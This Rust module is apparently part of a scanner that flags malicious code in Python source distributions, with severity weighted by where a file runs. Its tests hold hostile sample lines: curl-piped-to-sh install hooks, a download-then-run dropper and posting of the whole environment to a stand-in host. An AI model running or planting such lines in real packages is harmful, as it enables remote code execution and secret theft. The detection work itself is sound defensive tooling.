//! Context, not single strings: indicators are combined per file and weighted
//! by where the file runs (every interpreter start > install time > package
//! import > other modules > tests, docs, examples).

use regex::bytes::Regex;
use std::sync::OnceLock;

use super::rules::{Hit, Kind, Rules};
use crate::finding::{Confidence, RuleId, Severity};

/// Where a file runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Role {
    /// Tests, docs, examples, benchmarks: not run by installing or importing.
    Test,
    /// Any other module.
    Module,
    /// A package's top-level `__init__.py`: runs on import.
    Init,
    /// `setup.py`: runs on install from an sdist.
    Install,
    /// `.pth` lines, `sitecustomize`, and modules a `.pth` imports: every interpreter start.
    Startup,
}

impl Role {
    /// For messages.
    pub fn describe(self) -> &'static str {
        match self {
            Self::Test => "in tests/docs/examples",
            Self::Module => "in a module",
            Self::Init => "in a package __init__ (runs on import)",
            Self::Install => "in setup.py (runs on install)",
            Self::Startup => "at every interpreter start",
        }
    }
}

const TEST_DIRS: &[&str] = &[
    "test",
    "tests",
    "testing",
    "docs",
    "doc",
    "examples",
    "example",
    "benchmarks",
    "bench",
    "demo",
    "demos",
    "samples",
    // CI configuration and helpers of the source tree.
    ".github",
    ".circleci",
    ".gitlab",
    ".azure-pipelines",
];

/// The role of a member path. `root` is the sdist's top directory (stripped).
pub fn role(path: &str, startup_modules: &[String]) -> Role {
    let p = path.replace('\\', "/");
    let parts: Vec<&str> = p
        .split('/')
        .filter(|c| !c.is_empty() && *c != ".")
        .collect();
    let name = parts.last().copied().unwrap_or("");
    let lower = name.to_ascii_lowercase();
    let dirs = &parts[..parts.len().saturating_sub(1)];
    let in_tests = dirs
        .iter()
        .any(|d| TEST_DIRS.contains(&d.to_ascii_lowercase().as_str()));
    // A startup file in tests or docs is never installed where `site` reads it.
    if (lower.ends_with(".pth") || lower == "sitecustomize.py" || lower == "usercustomize.py")
        && !in_tests
    {
        return Role::Startup;
    }
    if let Some(stem) = lower.strip_suffix(".py")
        && startup_modules.iter().any(|m| m == stem)
        && parts.len() <= 2
    {
        return Role::Startup;
    }
    if lower == "setup.py" && parts.len() <= 2 {
        return Role::Install;
    }
    if in_tests
        || lower.starts_with("test_")
        || lower == "tests.py"
        || lower == "test.py"
        || lower.ends_with("_test.py")
        || lower == "conftest.py"
    {
        return Role::Test;
    }
    if lower == "__init__.py" && parts.len() <= 3 {
        return Role::Init;
    }
    Role::Module
}

/// One finding inside an archive member.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct MemberFinding {
    /// The rule.
    pub rule: RuleId,
    /// How bad.
    pub severity: Severity,
    /// How sure.
    pub confidence: Confidence,
    /// 1-based line in the member.
    pub line: Option<u32>,
    /// For people.
    pub message: String,
    /// (label, value) pairs: source, sink, snippet, indicator ids.
    pub evidence: Vec<(String, String)>,
}

fn snippet(text: &[u8], offset: usize) -> String {
    let start = text[..offset.min(text.len())]
        .iter()
        .rposition(|b| *b == b'\n')
        .map_or(0, |p| p + 1);
    let end = text[offset.min(text.len())..]
        .iter()
        .position(|b| *b == b'\n')
        .map_or(text.len(), |p| offset + p);
    let line = String::from_utf8_lossy(&text[start..end]);
    let t = line.trim();
    if t.chars().count() > 160 {
        format!("{}…", t.chars().take(160).collect::<String>())
    } else {
        t.to_string()
    }
}

fn alias_exec() -> Option<&'static Regex> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r"(?-u)(?m)^\s*([A-Za-z_]\w*)\s*=\s*(?:exec|eval|builtins\.exec|__builtins__\.exec)\s*$|from\s+builtins\s+import\s+(?:exec|eval)\s+as\s+([A-Za-z_]\w*)").ok()
    })
    .as_ref()
}

/// The 1-based line of a byte offset.
fn line_at(text: &[u8], offset: usize) -> u32 {
    let n = text[..offset.min(text.len())]
        .iter()
        .filter(|b| **b == b'\n')
        .count()
        + 1;
    u32::try_from(n).unwrap_or(u32::MAX)
}

fn os_environ_alias() -> Option<&'static Regex> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    R.get_or_init(|| Regex::new(r"(?-u)\bfrom\s+os\s+import\s+[^\n]*\benviron\b").ok())
        .as_ref()
}

fn bare_environ_dump() -> Option<&'static Regex> {
    static R: OnceLock<Option<Regex>> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r"(?-u)(?:dict|str|repr|json\.dumps|list)\(\s*environ\b|(?:^|[^.\w])environ\.(?:items|keys|values)\(\)").ok()
    })
    .as_ref()
}

/// Lines of long base64/hex blobs and of code hidden after long runs of spaces.
fn blobs_and_hidden(text: &[u8]) -> (Vec<u32>, Vec<u32>) {
    let mut blobs = Vec::new();
    let mut hidden = Vec::new();
    let mut line = 1u32;
    let mut run = 0usize;
    let mut spaces = 0usize;
    let mut blob_line_done = false;
    for &b in text {
        if b == b'\n' {
            line += 1;
            run = 0;
            spaces = 0;
            blob_line_done = false;
            continue;
        }
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' || b == b'\\' {
            run += 1;
            if run == 512 && !blob_line_done {
                blobs.push(line);
                blob_line_done = true;
            }
        } else {
            run = 0;
        }
        if b == b' ' || b == b'\t' {
            spaces += 1;
        } else {
            if spaces >= 150 && hidden.last() != Some(&line) {
                hidden.push(line);
            }
            spaces = 0;
        }
    }
    (blobs, hidden)
}

/// How many times code found hidden in code is unfolded and analysed again.
const MAX_UNFOLD: usize = 3;

/// Analyses one text member: the lexical pass, then (for Python) the code it
/// runs from folded data, reported and analysed again in the same context.
pub fn analyze(rules: &Rules, path: &str, text: &[u8], role: Role) -> Vec<MemberFinding> {
    analyze_at(rules, path, text, role, 0)
}

fn analyze_at(
    rules: &Rules,
    path: &str,
    text: &[u8],
    role: Role,
    depth: usize,
) -> Vec<MemberFinding> {
    let lower = path.to_ascii_lowercase();
    let python = lower.ends_with(".py") || lower.ends_with(".pyw") || depth > 0;
    let mut out = lexical(rules, text, role);
    // Words in comments and docstrings are not code: when the lexical pass
    // reports something in Python, it is asked again with them blanked.
    if python
        && out.iter().any(|f| f.severity >= Severity::Medium)
        && let Ok(source) = std::str::from_utf8(text)
        && let Some(code) = super::python::without_comments(source)
    {
        out = lexical(rules, code.as_bytes(), role);
    }
    if python && depth < MAX_UNFOLD {
        let analysis = super::python::analyse(&String::from_utf8_lossy(text));
        if analysis.parsed() && analysis.flows.is_empty() {
            no_flow_no_download_exec(&mut out);
        }
        out.extend(v2_findings(rules, path, text, role, depth, &out, analysis));
    }
    out
}

/// A file that parses, fetches with Python's own clients and starts a
/// program, but runs nothing it fetched (no flow), is a build script or a
/// tool, not a dropper: the co-occurrence finding drops to low. A download
/// spelled in a command line (curl, wget, PowerShell) is not seen by the
/// flows pass and keeps its severity.
fn no_flow_no_download_exec(out: &mut [MemberFinding]) {
    for f in out.iter_mut().filter(|f| {
        f.rule == RuleId::DownloadExec
            && f.message.starts_with("downloads a file and runs a program")
    }) {
        let shell = f.evidence.iter().any(|(label, value)| {
            label == "download"
                && ["wget", "curl", "Invoke-WebRequest", "DownloadFile"]
                    .iter()
                    .any(|w| value.contains(w))
        });
        if !shell && f.severity > Severity::Low {
            f.severity = Severity::Low;
            f.confidence = Confidence::Low;
            f.message
                .push_str(", but nothing it downloads reaches what it runs");
        }
    }
}

/// Findings of scanner v2's passes (`super::python`): code an executor runs
/// from folded data, what that code does, and network data that reaches
/// something that runs it.
fn v2_findings(
    rules: &Rules,
    path: &str,
    text: &[u8],
    role: Role,
    depth: usize,
    already: &[MemberFinding],
    analysis: super::python::Analysis,
) -> Vec<MemberFinding> {
    let mut out = Vec::new();
    for h in analysis.hidden {
        let how = h.techniques.join(" + ");
        let shown: String = h
            .code
            .chars()
            .map(|c| if c.is_control() { ' ' } else { c })
            .take(200)
            .collect();
        // The lexical pass may have seen it (an exec near a decode).
        let reported = already.iter().chain(out.iter()).any(|f| {
            f.rule == RuleId::ObfuscatedExec && f.line.is_some_and(|l| l.abs_diff(h.line) <= 2)
        });
        if !reported {
            let severity = match role {
                Role::Test => Severity::Low,
                Role::Startup | Role::Install | Role::Init => Severity::Critical,
                Role::Module => Severity::High,
            };
            out.push(MemberFinding {
                rule: RuleId::ObfuscatedExec,
                severity,
                confidence: Confidence::High,
                line: Some(h.line),
                message: format!(
                    "runs code hidden by {how} ({}) {}",
                    h.executor.trim_start_matches("builtins."),
                    role.describe()
                ),
                evidence: vec![
                    ("executor".into(), h.executor.clone()),
                    ("hidden-by".into(), how.clone()),
                    ("decoded".into(), shown),
                ],
            });
        }
        // What the hidden code does, at the line that runs it.
        for mut f in analyze_at(rules, path, h.code.as_bytes(), role, depth + 1) {
            f.line = Some(h.line);
            f.message = format!("{} (in code hidden by {how})", f.message);
            f.evidence.push(("hidden-by".into(), how.clone()));
            out.push(f);
        }
    }
    for flow in analysis.flows {
        let reported = already.iter().chain(out.iter()).any(|f| {
            f.rule == RuleId::DownloadExec && f.line.is_some_and(|l| l.abs_diff(flow.line) <= 2)
        });
        if reported {
            continue;
        }
        let severity = match role {
            Role::Test => Severity::Low,
            Role::Startup | Role::Install | Role::Init => Severity::Critical,
            Role::Module => Severity::High,
        };
        let what = match flow.kind {
            "file" => "downloads a file and starts it",
            _ => "fetches code from the network and runs it",
        };
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity,
            confidence: Confidence::High,
            line: Some(flow.line),
            message: format!(
                "{what} ({}) {}",
                flow.runner.trim_start_matches("builtins."),
                role.describe()
            ),
            evidence: vec![
                ("runner".into(), flow.runner.clone()),
                ("flow".into(), format!("network data -> {}", flow.kind)),
                ("snippet".into(), snippet_at_line(text, flow.line)),
            ],
        });
    }
    out
}

/// The lexical pass: indicators combined by file and role.
fn lexical(rules: &Rules, text: &[u8], role: Role) -> Vec<MemberFinding> {
    let mut hits = rules.scan(text, 64);
    // `b = exec` ... `b(data)`: calls through an alias are exec calls.
    for caps in alias_exec().into_iter().flat_map(|r| r.captures_iter(text)) {
        let Some(name) = caps.get(1).or_else(|| caps.get(2)) else {
            continue;
        };
        let name = String::from_utf8_lossy(name.as_bytes()).into_owned();
        if let Ok(call) = Regex::new(&format!(r"(?-u)\b{}\s*\(", regex::escape(&name)))
            && let Some(exec_idx) = rules.indicators.iter().position(|i| i.kind == Kind::Exec)
        {
            for m in call.find_iter(text).take(16) {
                hits.push(Hit {
                    indicator: exec_idx,
                    offset: m.start(),
                    line: line_at(text, m.start()),
                });
            }
        }
    }
    // `from os import environ` (or `getenv`, `environ as e`): bare names are the environment.
    if let Some(env_alias) = os_environ_alias()
        && env_alias.is_match(text)
        && let Some(dump) = bare_environ_dump()
        && let Some(idx) = rules.indicators.iter().position(|i| i.id == "env-dump")
    {
        for m in dump.find_iter(text).take(16) {
            hits.push(Hit {
                indicator: idx,
                offset: m.start(),
                line: line_at(text, m.start()),
            });
        }
    }
    let of = |k: Kind| -> Vec<&Hit> {
        hits.iter()
            .filter(|h| rules.indicators[h.indicator].kind == k)
            .collect()
    };
    let id = |h: &Hit| rules.indicators[h.indicator].id.clone();
    let (blobs, hidden) = blobs_and_hidden(text);
    let mut out = Vec::new();
    let hot = matches!(role, Role::Startup | Role::Install | Role::Init);
    let grade = |hot_sev: Severity, cold_sev: Severity| if hot { hot_sev } else { cold_sev };

    // exec/eval/compile of decoded data.
    let execs = of(Kind::Exec);
    let decodes = of(Kind::Decode);
    for e in &execs {
        let near_decode = decodes.iter().find(|d| d.line.abs_diff(e.line) <= 2);
        let near_blob = blobs.iter().find(|b| b.abs_diff(e.line) <= 2);
        if near_decode.is_none() && near_blob.is_none() {
            continue;
        }
        let severity = if role == Role::Test {
            Severity::Low
        } else {
            grade(Severity::Critical, Severity::High)
        };
        let mut evidence = vec![
            ("snippet".to_string(), snippet(text, e.offset)),
            ("exec".into(), id(e)),
        ];
        if let Some(d) = near_decode {
            evidence.push(("decode".into(), id(d)));
        }
        if near_blob.is_some() {
            evidence.push(("payload".into(), "a long encoded blob".into()));
        }
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity,
            confidence: Confidence::High,
            line: Some(e.line),
            message: format!("code is executed from decoded data {}", role.describe()),
            evidence,
        });
        break;
    }
    if role != Role::Test
        && let Some(o) = of(Kind::Obfuscation).first()
    {
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(o.line),
            message: format!(
                "looks builtins up by computed names to hide what runs {}",
                role.describe()
            ),
            evidence: vec![
                ("snippet".into(), snippet(text, o.offset)),
                ("indicator".into(), id(o)),
            ],
        });
    }
    // Strings that decode to code: scan what base64 literals hide.
    if role != Role::Test
        && let Some((line, what)) = hidden_in_base64(rules, text)
    {
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(line),
            message: format!("a base64 string hides code that {what} {}", role.describe()),
            evidence: vec![("snippet".into(), snippet_at_line(text, line))],
        });
    }
    if let Some(&l) = hidden.first()
        && role != Role::Test
    {
        out.push(MemberFinding {
            rule: RuleId::ObfuscatedExec,
            severity: grade(Severity::High, Severity::Medium),
            confidence: Confidence::Medium,
            line: Some(l),
            message: format!(
                "code hidden after a long run of whitespace, off the right edge of an editor, {}",
                role.describe()
            ),
            evidence: vec![(
                "hidden-lines".into(),
                hidden
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>()
                    .join(","),
            )],
        });
    }
    if role == Role::Test {
        return out;
    }

    // Sources linked to sinks: exfiltration.
    let mut sources = of(Kind::Source);
    if hot {
        sources.extend(of(Kind::Host));
    }
    let mut sinks = of(Kind::Sink);
    sinks.extend(of(Kind::Endpoint));
    if let (Some(src), Some(sink)) = (sources.first(), sinks.first()) {
        let strong_source = sources.iter().any(|s| {
            matches!(
                rules.indicators[s.indicator].id.as_str(),
                "env-dump" | "credential-file"
            )
        });
        let endpoint = sinks
            .iter()
            .any(|s| rules.indicators[s.indicator].kind == Kind::Endpoint);
        let close = sources
            .iter()
            .any(|s| sinks.iter().any(|k| k.line.abs_diff(s.line) <= 30));
        let severity = if hot {
            if strong_source || endpoint {
                Severity::Critical
            } else {
                Severity::High
            }
        } else if strong_source && (endpoint || close) {
            Severity::High
        } else {
            Severity::Medium
        };
        let confidence = if strong_source && (endpoint || close) {
            Confidence::High
        } else {
            Confidence::Medium
        };
        out.push(MemberFinding {
            rule: RuleId::Exfiltration,
            severity,
            confidence,
            line: Some(src.line.min(sink.line)),
            message: format!(
                "collects {} and sends data out ({}) {}",
                source_words(rules, &sources),
                id(sink),
                role.describe()
            ),
            evidence: vec![
                (
                    "source".into(),
                    format!(
                        "{} at line {}: {}",
                        id(src),
                        src.line,
                        snippet(text, src.offset)
                    ),
                ),
                (
                    "sink".into(),
                    format!(
                        "{} at line {}: {}",
                        id(sink),
                        sink.line,
                        snippet(text, sink.offset)
                    ),
                ),
            ],
        });
    } else if let Some(ep) = of(Kind::Endpoint).first() {
        out.push(MemberFinding {
            rule: RuleId::SuspiciousEndpoint,
            severity: grade(Severity::High, Severity::Medium),
            confidence: Confidence::Medium,
            line: Some(ep.line),
            message: format!(
                "names a host used to receive stolen data {}",
                role.describe()
            ),
            evidence: vec![("snippet".into(), snippet(text, ep.offset))],
        });
    }

    // exec of what the network returns: remote code execution.
    let net: Vec<&Hit> = hits
        .iter()
        .filter(|h| {
            matches!(
                rules.indicators[h.indicator].kind,
                Kind::Sink | Kind::Endpoint
            )
        })
        .collect();
    if let Some((e, n)) = execs.iter().find_map(|e| {
        net.iter()
            .find(|n| n.line.abs_diff(e.line) <= 2)
            .map(|n| (e, n))
    }) {
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(e.line),
            message: format!("executes code fetched from the network {}", role.describe()),
            evidence: vec![
                ("snippet".into(), snippet(text, e.offset)),
                ("sink".into(), id(n)),
            ],
        });
    }

    // Download, then run.
    let downloads = of(Kind::Download);
    let processes = of(Kind::Process);
    if let (Some(d), Some(p)) = (downloads.first(), processes.first()) {
        let close = downloads
            .iter()
            .any(|d| processes.iter().any(|p| p.line.abs_diff(d.line) <= 15));
        let severity = if hot {
            Severity::Critical
        } else if close && !of(Kind::Endpoint).is_empty() {
            Severity::High
        } else {
            Severity::Medium
        };
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity,
            confidence: if close {
                Confidence::High
            } else {
                Confidence::Medium
            },
            line: Some(d.line),
            message: format!("downloads a file and runs a program {}", role.describe()),
            evidence: vec![
                (
                    "download".into(),
                    format!("line {}: {}", d.line, snippet(text, d.offset)),
                ),
                (
                    "run".into(),
                    format!("line {}: {}", p.line, snippet(text, p.offset)),
                ),
            ],
        });
    }

    for ps in of(Kind::Powershell).into_iter().take(1) {
        out.push(MemberFinding {
            rule: RuleId::DownloadExec,
            severity: grade(Severity::Critical, Severity::High),
            confidence: Confidence::High,
            line: Some(ps.line),
            message: format!(
                "runs an encoded or hidden PowerShell command {}",
                role.describe()
            ),
            evidence: vec![("snippet".into(), snippet(text, ps.offset))],
        });
    }

    // setup.py doing more than building.
    if role == Role::Install {
        if let Some(p) = processes.first()
            && (!decodes.is_empty() || !blobs.is_empty())
        {
            out.push(MemberFinding {
                rule: RuleId::ObfuscatedExec,
                severity: Severity::Critical,
                confidence: Confidence::Medium,
                line: Some(p.line),
                message: "setup.py decodes data and starts a program at install time".into(),
                evidence: vec![(
                    "run".into(),
                    format!("line {}: {}", p.line, snippet(text, p.offset)),
                )],
            });
        }
        if let Some(p) = processes
            .iter()
            .find(|h| rules.indicators[h.indicator].id == "pip-install")
        {
            out.push(MemberFinding {
                rule: RuleId::InstallHook,
                severity: Severity::High,
                confidence: Confidence::High,
                line: Some(p.line),
                message: "setup.py runs pip to install other packages at install time".into(),
                evidence: vec![("snippet".into(), snippet(text, p.offset))],
            });
        }
        let custom = of(Kind::InstallCommand);
        let acts: Vec<&Hit> = hits
            .iter()
            .filter(|h| {
                matches!(
                    rules.indicators[h.indicator].kind,
                    Kind::Process | Kind::Sink | Kind::Endpoint | Kind::Exec | Kind::Download
                )
            })
            .collect();
        if let (Some(c), Some(a)) = (custom.first(), acts.first()) {
            out.push(MemberFinding {
                rule: RuleId::InstallHook,
                severity: Severity::High,
                confidence: Confidence::High,
                line: Some(c.line),
                message: format!(
                    "setup.py replaces an install command and runs code at install time ({})",
                    id(a)
                ),
                evidence: vec![
                    (
                        "hook".into(),
                        format!("line {}: {}", c.line, snippet(text, c.offset)),
                    ),
                    (
                        "action".into(),
                        format!("{} at line {}: {}", id(a), a.line, snippet(text, a.offset)),
                    ),
                ],
            });
        } else if let Some(s) = hits.iter().find(|h| {
            matches!(
                rules.indicators[h.indicator].kind,
                Kind::Sink | Kind::Download
            )
        }) {
            let with_process = !processes.is_empty() || !execs.is_empty();
            out.push(MemberFinding {
                rule: RuleId::InstallHook,
                severity: if with_process {
                    Severity::High
                } else {
                    Severity::Medium
                },
                confidence: Confidence::Medium,
                line: Some(s.line),
                message: "setup.py talks to the network at install time".into(),
                evidence: vec![("snippet".into(), snippet(text, s.offset))],
            });
        }
    }
    out
}

fn snippet_at_line(text: &[u8], line: u32) -> String {
    let mut offset = 0;
    for _ in 1..line {
        match text[offset..].iter().position(|b| *b == b'\n') {
            Some(p) => offset += p + 1,
            None => break,
        }
    }
    snippet(text, offset)
}

/// Decodes base64 string literals and looks for code in them: the line of the
/// first literal that hides sinks, processes, downloads, exec or secrets.
fn hidden_in_base64(rules: &Rules, text: &[u8]) -> Option<(u32, String)> {
    static LIT: OnceLock<Option<Regex>> = OnceLock::new();
    let lit = LIT
        .get_or_init(|| Regex::new(r#"(?-u)['"]([A-Za-z0-9+/]{24,}={0,2})['"]"#).ok())
        .as_ref()?;
    for m in lit.captures_iter(text).take(256) {
        let Some(g) = m.get(1) else { continue };
        let Some(decoded) = base64_decode(g.as_bytes()) else {
            continue;
        };
        if decoded
            .iter()
            .filter(|b| b.is_ascii_graphic() || **b == b' ' || **b == b'\n')
            .count()
            * 10
            < decoded.len() * 9
        {
            continue;
        }
        let kinds: Vec<&str> = rules
            .scan(&decoded, 4)
            .iter()
            .filter(|h| {
                matches!(
                    rules.indicators[h.indicator].kind,
                    Kind::Sink
                        | Kind::Endpoint
                        | Kind::Process
                        | Kind::Download
                        | Kind::Exec
                        | Kind::Powershell
                )
            })
            .map(|h| rules.indicators[h.indicator].id.as_str())
            .collect();
        let looks_like_command = decoded.windows(5).any(|w| {
            w.eq_ignore_ascii_case(b"curl ")
                || w.eq_ignore_ascii_case(b"wget ")
                || w == b"--url"
                || w.eq_ignore_ascii_case(b"http:")
                || w.eq_ignore_ascii_case(b"https")
        });
        if !kinds.is_empty() || looks_like_command {
            let line = line_at(text, g.start());
            let what = if kinds.is_empty() {
                "names a download command or URL".to_string()
            } else {
                format!("matches {}", kinds.join(", "))
            };
            return Some((line, what));
        }
    }
    None
}

/// Standard base64 (with or without padding); `None` if it is not valid.
fn base64_decode(input: &[u8]) -> Option<Vec<u8>> {
    let val = |c: u8| -> Option<u32> {
        Some(match c {
            b'A'..=b'Z' => u32::from(c - b'A'),
            b'a'..=b'z' => u32::from(c - b'a') + 26,
            b'0'..=b'9' => u32::from(c - b'0') + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        })
    };
    let data: Vec<u8> = input.iter().copied().filter(|c| *c != b'=').collect();
    if data.len() % 4 == 1 {
        return None;
    }
    let mut out = Vec::with_capacity(data.len() * 3 / 4);
    for chunk in data.chunks(4) {
        let mut acc = 0u32;
        for (i, c) in chunk.iter().enumerate() {
            acc |= val(*c)? << (18 - 6 * i);
        }
        let bytes = acc.to_be_bytes();
        out.extend_from_slice(&bytes[1..chunk.len()]);
    }
    Some(out)
}

fn source_words(rules: &Rules, sources: &[&Hit]) -> String {
    let mut ids: Vec<&str> = sources
        .iter()
        .map(|s| rules.indicators[s.indicator].id.as_str())
        .collect();
    ids.sort_unstable();
    ids.dedup();
    ids.iter()
        .map(|i| match *i {
            "env-dump" => "the whole environment",
            "secret-env" => "secret environment variables",
            "credential-file" => "credential files",
            "host-info" => "host and user details",
            other => other,
        })
        .collect::<Vec<_>>()
        .join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::rules::rules;

    fn rules_of(path: &str, text: &str, startup: &[String]) -> Vec<(RuleId, Severity)> {
        let r = rules().unwrap();
        analyze(r, path, text.as_bytes(), role(path, startup))
            .into_iter()
            .map(|f| (f.rule, f.severity))
            .collect()
    }

    #[test]
    fn base64_round_trip() {
        assert_eq!(base64_decode(b"aGVsbG8gd29ybGQ=").unwrap(), b"hello world");
        assert_eq!(base64_decode(b"aGk").unwrap(), b"hi");
        assert!(base64_decode(b"a").is_none());
        assert!(base64_decode(b"a$bc").is_none());
    }

    #[test]
    fn roles() {
        assert_eq!(role("pkg-1.0/setup.py", &[]), Role::Install);
        assert_eq!(role("pkg-1.0/pkg/__init__.py", &[]), Role::Init);
        assert_eq!(role("pkg-1.0/tests/test_x.py", &[]), Role::Test);
        assert_eq!(role("evil.pth", &[]), Role::Startup);
        assert_eq!(role("hook.py", &["hook".into()]), Role::Startup);
        assert_eq!(role("pkg/deep/mod.py", &[]), Role::Module);
    }

    #[test]
    fn a_download_is_judged_by_whether_what_came_is_run() {
        let build = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve(URL, 'openblas.tar.gz')\nsubprocess.check_call(['tar', 'xzf', 'openblas.tar.gz'])\n";
        let got = rules_of("p/setup.py", build, &[]);
        assert!(
            got.iter()
                .all(|(r, s)| *r != RuleId::DownloadExec || *s <= Severity::Low),
            "{got:?}"
        );
        let dropper = "import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve(URL, '/tmp/update')\nsubprocess.Popen(['/tmp/update'])\n";
        let got = rules_of("p/setup.py", dropper, &[]);
        assert!(
            got.contains(&(RuleId::DownloadExec, Severity::Critical)),
            "{got:?}"
        );
        // Spelled in a command line, the flows pass cannot see it: it stays.
        let shell = "import os\nfrom urllib.request import urlopen\nurlopen(PING)\nos.system('curl -s https://x.example/a -o /tmp/a; sh /tmp/a')\n";
        let got = rules_of("p/setup.py", shell, &[]);
        assert!(
            got.iter()
                .any(|(r, s)| *r == RuleId::DownloadExec && *s >= Severity::High),
            "{got:?}"
        );
    }

    #[test]
    fn context_decides() {
        let exfil =
            "import os, requests\nrequests.post('https://x.example/c', json=dict(os.environ))\n";
        assert_eq!(
            rules_of("p/pkg/__init__.py", exfil, &[]),
            vec![(RuleId::Exfiltration, Severity::Critical)]
        );
        assert_eq!(
            rules_of("p/pkg/client.py", exfil, &[]),
            vec![(RuleId::Exfiltration, Severity::High)]
        );
        assert!(rules_of("p/tests/test_client.py", exfil, &[]).is_empty());
        // Honest: reads a token, makes requests, far apart and not the whole environment.
        let honest = format!(
            "import os\ntoken = os.environ.get('HOME')\n{}r = requests.get(url)\n",
            "\n".repeat(100)
        );
        assert!(rules_of("p/pkg/client.py", &honest, &[]).is_empty());
        let obf = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
        assert_eq!(
            rules_of("p/setup.py", obf, &[]),
            vec![(RuleId::ObfuscatedExec, Severity::Critical)]
        );
        let from_os = "from os import environ\nimport requests\nrequests.post('https://x.example/c', json=dict(environ))\n";
        assert_eq!(
            rules_of("p/pkg/__init__.py", from_os, &[]),
            vec![(RuleId::Exfiltration, Severity::Critical)]
        );
        let alias = "import zlib\nb = exec\n\nb(zlib.decompress(data))\n";
        assert_eq!(
            rules_of("p/pkg/m.py", alias, &[]),
            vec![(RuleId::ObfuscatedExec, Severity::High)]
        );
        let hook = "from setuptools.command.install import install\nclass H(install):\n    def run(self):\n        os.system('curl https://x.example/a | sh')\nsetup(cmdclass={'install': H})\n";
        assert!(rules_of("p/setup.py", hook, &[]).contains(&(RuleId::InstallHook, Severity::High)));
    }
}
